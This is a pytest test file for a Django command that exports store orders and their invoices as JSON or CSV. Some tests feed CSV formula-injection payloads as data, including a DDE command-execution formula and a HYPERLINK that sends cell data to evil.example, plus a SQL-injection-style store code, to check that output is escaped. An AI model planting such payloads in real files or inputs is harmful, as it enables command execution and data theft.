"""`export_documents`: one row per known order, with the contract's fields and nothing else."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import CommandError

from invoicing.models import Document, OrderDecision
from sandbox.orders import Line
from stores.models import Order, Store
from tests.commands.run import command
from tests.flow import Shop, connect_shop, drain
from tests.models import rows

# The contract's fields, in its order.
FIELDS = [
    "order_id",
    "order_status",
    "paid_total",
    "outcome",
    "hold_reason",
    "kind",
    "reference",
    "provider_id",
    "number",
    "status",
    "gross_total",
    "operation_state",
    "credited_total",
    "document_url",
]
AMOUNT = re.compile(r"\d+\.\d\d")


def export(store: str = "loja-exemplo", *options: str) -> list[dict[str, Any]]:
    ended = command("export_documents", store, *options)
    assert (ended.status, ended.err) == (0, "")
    found: list[dict[str, Any]] = ended.json
    return found


def cells(store: str = "loja-exemplo", *options: str) -> list[dict[str, str]]:
    ended = command("export_documents", store, "--format", "csv", *options)
    return list(csv.DictReader(io.StringIO(ended.out, newline="")))


def empty(order_id: str, **fields: Any) -> dict[str, Any]:
    """The row of an order without a document."""
    return {
        **dict.fromkeys(FIELDS),
        "order_id": order_id,
        "order_status": "",
        "credited_total": "0.00",
        **fields,
    }


def cancel(shop: Shop, order_id: int) -> None:
    shop.put(order_id, status="canceled")
    shop.ring(order_id, "order_canceled")
    drain(shop.clock)


def test_an_unpaid_order_is_not_due(shop: Shop) -> None:
    shop.put(1001, status="pending_payment")
    shop.ring(1001, "order_pending_payment")
    drain(shop.clock)

    assert export() == [empty("1001", order_status="unpaid", paid_total="12.30", outcome="not_due")]


def test_an_order_that_was_heard_of_and_not_read_yet_is_pending(shop: Shop) -> None:
    shop.put(1001)
    shop.ring(1001)
    (delivery,) = shop.connection.deliveries.all()
    from jumpseller_sync.services.deliveries import process_delivery

    process_delivery(delivery.pk)

    assert export() == [empty("1001", outcome="pending", operation_state="queued")]


def test_an_order_that_waits_for_staff_is_pending(sandbox, clock) -> None:
    shop = connect_shop(sandbox, clock, issue_on="manual")
    shop.pay(1001)

    assert export() == [empty("1001", order_status="paid", paid_total="12.30", outcome="pending")]


def test_a_document_under_way_is_pending(shop: Shop) -> None:
    shop.sandbox.state.faults.add(vendor="invoicexpress", kind="drop_before", times=None)
    shop.put(1001)
    shop.ring(1001)
    drain(shop.clock, hours=0)

    (row,) = export()
    assert (row["outcome"], row["status"], row["operation_state"]) == ("pending", "planned", "queued")
    assert (row["provider_id"], row["number"], row["document_url"]) == (None, None, None)
    assert row["reference"] == "LOJA-EXEMPLO-1001-FT1"


def test_an_issued_order(shop: Shop) -> None:
    shop.pay(1001)

    (row,), (document,) = export(), shop.documents(1001)
    assert list(row) == FIELDS
    assert row["document_url"].startswith("http://testserver/d/")
    assert {**row, "document_url": None} == {
        "order_id": "1001",
        "order_status": "paid",
        "paid_total": "12.30",
        "outcome": "issued",
        "hold_reason": None,
        "kind": "invoice_receipt",
        "reference": "LOJA-EXEMPLO-1001-FT1",
        "provider_id": document.provider_id,
        "number": document.number,
        "status": "settled",
        "gross_total": "12.30",
        "operation_state": "done",
        "credited_total": "0.00",
        "document_url": None,
    }


def test_a_credited_order(sandbox, clock) -> None:
    shop = connect_shop(sandbox, clock, on_cancel="credit_note")
    shop.pay(1001)
    cancel(shop, 1001)

    (row,) = export()
    assert (row["outcome"], row["order_status"], row["credited_total"]) == ("credited", "canceled", "12.30")
    assert (row["reference"], row["status"]) == ("LOJA-EXEMPLO-1001-FT1", "settled")


def test_a_deleted_draft(sandbox, clock) -> None:
    shop = connect_shop(sandbox, clock, finalize=False)
    shop.pay(1001)
    assert export()[0]["outcome"] == "issued"
    cancel(shop, 1001)

    (row,) = export()
    assert (row["outcome"], row["status"], row["number"]) == ("deleted", "deleted", None)
    assert (row["document_url"], row["operation_state"]) == (None, "done")


def test_a_held_order_says_why(shop: Shop) -> None:
    shop.pay(1001, lines=[Line(rate="0")])

    assert export() == [
        empty(
            "1001",
            order_status="paid",
            paid_total="12.30",
            outcome="held",
            hold_reason="missing_exemption",
        )
    ]


def test_an_excluded_order_says_why(sandbox, clock) -> None:
    shop = connect_shop(sandbox, clock, go_live_on="2026-12-01")
    shop.pay(1001)

    assert export() == [
        empty(
            "1001", order_status="paid", paid_total="12.30", outcome="excluded", hold_reason="before_go_live"
        )
    ]


def test_the_live_document_is_shown_and_not_the_one_before(sandbox, clock) -> None:
    shop = connect_shop(sandbox, clock, on_cancel="credit_note")
    shop.pay(1001)
    cancel(shop, 1001)
    shop.clock.advance(60)
    shop.pay(1001)

    (row,) = export()
    assert (row["outcome"], row["reference"], row["credited_total"]) == (
        "issued",
        "LOJA-EXEMPLO-1001-FT2",
        "12.30",
    )


def test_a_delivery_that_fails_shows_and_hides_nothing(shop: Shop) -> None:
    shop.sandbox.state.faults.add(
        vendor="jumpseller",
        kind="error_before",
        method="POST",
        path_regex="documents",
        status=422,
        times=None,
        body={"message": "no"},
    )
    shop.pay(1001)

    (row,) = export()
    assert (row["outcome"], row["hold_reason"], row["operation_state"]) == ("issued", None, "held")


def test_amounts_are_texts_with_two_decimals(db: None) -> None:
    store = rows.store()
    totals = ["0", "0.1", "12.3", "1234567.8912", "1000000", "0.005"]
    for number, total in enumerate(totals, start=1):
        rows.order(store, number, total=Decimal(total), paid_total=Decimal(total))
    account = rows.account()
    rows.document(Order.objects.latest("id"), account, gross_total=Decimal("12.30"))

    found = export()

    assert [row["paid_total"] for row in found[:5]] == ["0.00", "0.10", "12.30", "1234567.89", "1000000.00"]
    for row in found:
        for key in ("paid_total", "gross_total", "credited_total"):
            assert row[key] is None or AMOUNT.fullmatch(row[key])


def test_every_known_order_has_one_row_oldest_first(db: None) -> None:
    store, other = rows.store(), rows.store("outra-loja")
    for number in range(1, 40):
        rows.order(store, number)
        rows.order(other, 100 + number)

    assert [row["order_id"] for row in export()] == [str(number) for number in range(1, 40)]
    assert {row["outcome"] for row in export()} == {"pending"}


def test_the_number_of_queries_does_not_grow_with_the_orders(db: None, django_assert_max_num_queries) -> None:
    store, account = rows.store(), rows.account()
    for number in range(1, 60):
        order = rows.order(store, number)
        OrderDecision.objects.create(order=order, outcome="pending", decided_at="2026-07-01T00:00:00Z")
        rows.operation(rows.document(order, account))

    with django_assert_max_num_queries(6):
        assert len(export()) == 59


# The store's day: 1 July in Lisbon is from 30 June 23:00 to 1 July 22:59 UTC.
MOMENTS = {
    "1": datetime(2026, 6, 30, 22, 59, 59, tzinfo=UTC),
    "2": datetime(2026, 6, 30, 23, 0, 0, tzinfo=UTC),
    "3": datetime(2026, 7, 1, 22, 59, 59, 999_000, tzinfo=UTC),
    "4": datetime(2026, 7, 1, 23, 0, 0, tzinfo=UTC),
}


@pytest.mark.parametrize(
    ("options", "found"),
    [
        ((), "1234"),
        (("--from", "2026-07-01"), "234"),
        (("--to", "2026-07-01"), "123"),
        (("--from", "2026-07-01", "--to", "2026-07-01"), "23"),
        (("--from", "2026-07-02", "--to", "2026-07-01"), ""),
        (("--from", "2026-06-30", "--to", "2026-06-30"), "1"),
        (("--from", "9999-12-31"), ""),
        (("--to", "0001-01-01"), ""),
        (("--from", "0001-01-01", "--to", "9999-12-31"), "1234"),
    ],
)
def test_days_are_the_stores_and_both_ends_belong(db: None, options: tuple[str, ...], found: str) -> None:
    store = rows.store()
    for number, moment in MOMENTS.items():
        rows.order(store, number, ordered_at=moment)

    assert "".join(row["order_id"] for row in export("loja-exemplo", *options)) == found


def test_days_follow_the_zone_of_the_store(db: None) -> None:
    store = rows.store(timezone="America/Santiago")
    rows.order(store, 1, ordered_at=datetime(2026, 7, 1, 3, 59, tzinfo=UTC))
    rows.order(store, 2, ordered_at=datetime(2026, 7, 1, 4, 0, tzinfo=UTC))

    assert [row["order_id"] for row in export("loja-exemplo", "--from", "2026-07-01")] == ["2"]


def test_the_day_on_which_the_clock_changes_has_25_hours(db: None) -> None:
    store = rows.store()
    rows.order(store, 1, ordered_at=datetime(2026, 10, 24, 23, 0, tzinfo=UTC))
    rows.order(store, 2, ordered_at=datetime(2026, 10, 25, 23, 59, 59, tzinfo=UTC))
    rows.order(store, 3, ordered_at=datetime(2026, 10, 26, 0, 0, tzinfo=UTC))

    day = ("--from", "2026-10-25", "--to", "2026-10-25")
    assert [row["order_id"] for row in export("loja-exemplo", *day)] == ["1", "2"]


def test_an_order_without_a_day_of_its_own_counts_when_it_was_heard_of(db: None) -> None:
    store = rows.store()
    rows.order(store, 1, created_at=datetime(2026, 7, 1, 12, 0, tzinfo=UTC))

    assert len(export("loja-exemplo", "--from", "2026-07-01", "--to", "2026-07-01")) == 1
    assert export("loja-exemplo", "--from", "2026-07-02") == []


@pytest.mark.parametrize("day", ["yesterday", "2026-13-01", "01/07/2026", "", "2026-07-01T00:00"])
@pytest.mark.parametrize("option", ["--from", "--to"])
def test_a_day_that_is_none_is_refused(db: None, option: str, day: str) -> None:
    rows.store()

    with pytest.raises(CommandError):
        command("export_documents", "loja-exemplo", option, day)


@pytest.mark.parametrize("code", ["outra-loja", "", "LOJA-EXEMPLO", "x' OR 1=1", "%"])
def test_an_unknown_store_is_told(db: None, code: str) -> None:
    rows.order(rows.store(), 1)

    with pytest.raises(CommandError, match="There is no store"):
        command("export_documents", code)

    assert Store.objects.count() == 1


def test_a_format_that_is_none_is_refused(db: None) -> None:
    rows.store()

    with pytest.raises(CommandError):
        command("export_documents", "loja-exemplo", "--format", "xlsx")


def test_a_store_without_orders_is_an_empty_list_and_a_header(db: None) -> None:
    rows.store()

    assert command("export_documents", "loja-exemplo").json == []
    ended = command("export_documents", "loja-exemplo", "--format", "csv")
    assert ended.out == ",".join(FIELDS) + "\r\n"


def test_csv_says_the_same_as_json(shop: Shop) -> None:
    shop.pay(1001)
    shop.put(1002, status="pending_payment")
    shop.ring(1002, "order_pending_payment")
    drain(shop.clock)

    texts = [{key: "" if value is None else value for key, value in row.items()} for row in export()]
    assert cells() == texts
    assert command("export_documents", "loja-exemplo", "--format", "csv").out.count("\r\n") == 3


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("column", ["shop_order_id", "number", "provider_id", "reference", "reason"])
def test_no_cell_is_a_formula(db: None, formula: str, column: str) -> None:
    order = rows.order(rows.store(), formula if column == "shop_order_id" else 1001)
    fields = {column: formula} if column in ("number", "provider_id", "reference") else {}
    rows.document(order, rows.account(), **{"status": "final", "provider_id": "5001", **fields})
    if column == "reason":
        OrderDecision.objects.create(
            order=order, outcome="held", reason=formula[:32], decided_at="2026-07-01T00:00:00Z"
        )

    (row,) = cells()

    shown = {"shop_order_id": "order_id", "reason": "hold_reason"}.get(column, column)
    expected = formula[:32] if column == "reason" else formula
    assert row[shown] == f"'{expected}"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\x00"))


def test_cells_with_quotes_commas_and_line_ends_come_back_whole(db: None) -> None:
    strange = 'a,"b"\r\nc;d\ne'
    rows.document(
        rows.order(rows.store(), 1001), rows.account(), status="final", provider_id="5001", number=strange
    )

    assert [row["number"] for row in cells()] == [strange]
    assert json.loads(command("export_documents", "loja-exemplo").out)[0]["number"] == strange


def test_the_export_changes_nothing(shop: Shop) -> None:
    shop.pay(1001)
    before = list(Document.objects.values())

    export()

    assert list(Document.objects.values()) == before
